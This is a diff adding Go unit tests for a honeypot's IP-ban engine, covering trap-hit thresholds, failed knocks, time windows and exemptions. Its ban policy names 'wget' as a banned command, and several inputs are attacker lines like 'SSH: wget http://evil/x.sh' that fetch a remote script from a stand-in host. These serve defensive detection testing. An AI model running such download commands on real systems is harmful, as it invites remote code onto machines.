@@ -0,0 +1,142 @@
+package blocklist
+
+import (
+	"net"
+	"testing"
+	"time"
+
+	"phantom-grid/internal/config"
+)
+
+type banCall struct {
+	ip     string
+	ttl    time.Duration
+	reason Reason
+}
+
+type fakeBanner struct {
+	calls  []banCall
+	banned map[string]bool
+}
+
+func newFakeBanner() *fakeBanner {
+	return &fakeBanner{banned: make(map[string]bool)}
+}
+
+func (f *fakeBanner) Ban(ip net.IP, ttl time.Duration, reason Reason) error {
+	f.calls = append(f.calls, banCall{ip.String(), ttl, reason})
+	f.banned[ip.String()] = true
+	return nil
+}
+
+func (f *fakeBanner) IsBanned(ip net.IP) bool {
+	return f.banned[ip.String()]
+}
+
+func testPolicy() config.BanPolicyConfiguration {
+	return config.BanPolicyConfiguration{
+		Enabled:              true,
+		TrapHitThreshold:     3,
+		FailedKnockThreshold: 2,
+		BanCommands:          []string{"wget "},
+		WindowSeconds:        60,
+		BanDurationSeconds:   600,
+		ExemptIPs:            []string{"192.0.2.99"},
+	}
+}
+
+func TestEngineRules(t *testing.T) {
+	tests := []struct {
+		name       string
+		ip         string
+		actions    []string
+		wantReason Reason
+		wantBan    bool
+	}{
+		{"trap hits below threshold", "192.0.2.1", []string{"TRAP_HIT_PORT_80", "TRAP_HIT_PORT_81"}, 0, false},
+		{"trap hits at threshold", "192.0.2.2", []string{"TRAP_HIT_PORT_80", "TRAP_HIT_PORT_81", "TRAP_HIT_PORT_82"}, ReasonTrapHits, true},
+		{"failed knocks", "192.0.2.3", []string{FailedKnockEvent, FailedKnockEvent}, ReasonFailedKnocks, true},
+		{"banned command", "192.0.2.4", []string{"SSH: WGET http://evil/x.sh"}, ReasonCommand, true},
+		{"harmless command", "192.0.2.5", []string{"SSH: ls -la", "REDIS: GET key"}, 0, false},
+		{"exempt address", "192.0.2.99", []string{"SSH: wget http://evil/x.sh"}, 0, false},
+		{"loopback", "127.0.0.1", []string{"SSH: wget http://evil/x.sh"}, 0, false},
+		{"ipv6 ignored", "2001:db8::1", []string{"SSH: wget http://evil/x.sh"}, 0, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			banner := newFakeBanner()
+			engine := NewEngine(banner, testPolicy(), nil)
+			for _, action := range tt.actions {
+				engine.Observe(tt.ip, action)
+			}
+
+			if !tt.wantBan {
+				if len(banner.calls) != 0 {
+					t.Fatalf("unexpected ban: %+v", banner.calls)
+				}
+				return
+			}
+			if len(banner.calls) != 1 {
+				t.Fatalf("got %d bans, want 1", len(banner.calls))
+			}
+			call := banner.calls[0]
+			if call.ip != tt.ip || call.reason != tt.wantReason || call.ttl != 600*time.Second {
+				t.Errorf("ban = %+v, want ip %s reason %s ttl 10m", call, tt.ip, tt.wantReason)
+			}
+		})
+	}
+}
+
+func TestEngineWindowExpiry(t *testing.T) {
+	banner := newFakeBanner()
+	engine := NewEngine(banner, testPolicy(), nil)
+
+	now := time.Unix(1000, 0)
+	engine.now = func() time.Time { return now }
+
+	engine.Observe("192.0.2.10", "TRAP_HIT_PORT_80")
+	engine.Observe("192.0.2.10", "TRAP_HIT_PORT_81")
+	now = now.Add(2 * time.Minute)
+	engine.Observe("192.0.2.10", "TRAP_HIT_PORT_82")
+
+	if len(banner.calls) != 0 {
+		t.Fatalf("hits from an expired window must not count: %+v", banner.calls)
+	}
+}
+
+func TestEngineNoRebanWhileBanned(t *testing.T) {
+	banner := newFakeBanner()
+	engine := NewEngine(banner, testPolicy(), nil)
+
+	for i := 0; i < 10; i++ {
+		engine.Observe("192.0.2.20", "SSH: wget http://evil/x.sh")
+	}
+	if len(banner.calls) != 1 {
+		t.Errorf("got %d bans for an already banned source, want 1", len(banner.calls))
+	}
+}
+
+func TestEngineDisabled(t *testing.T) {
+	banner := newFakeBanner()
+	policy := testPolicy()
+	policy.Enabled = false
+	engine := NewEngine(banner, policy, nil)
+
+	engine.Observe("192.0.2.30", "SSH: wget http://evil/x.sh")
+	if len(banner.calls) != 0 {
+		t.Errorf("disabled engine banned: %+v", banner.calls)
+	}
+}
+
+func TestEngineExemptCheck(t *testing.T) {
+	banner := newFakeBanner()
+	engine := NewEngine(banner, testPolicy(), nil)
+	engine.SetExemptCheck(func(ip net.IP) bool { return ip.Equal(net.ParseIP("192.0.2.40")) })
+
+	engine.Observe("192.0.2.40", FailedKnockEvent)
+	engine.Observe("192.0.2.40", FailedKnockEvent)
+	if len(banner.calls) != 0 {
+		t.Errorf("exempt source banned: %+v", banner.calls)
+	}
+}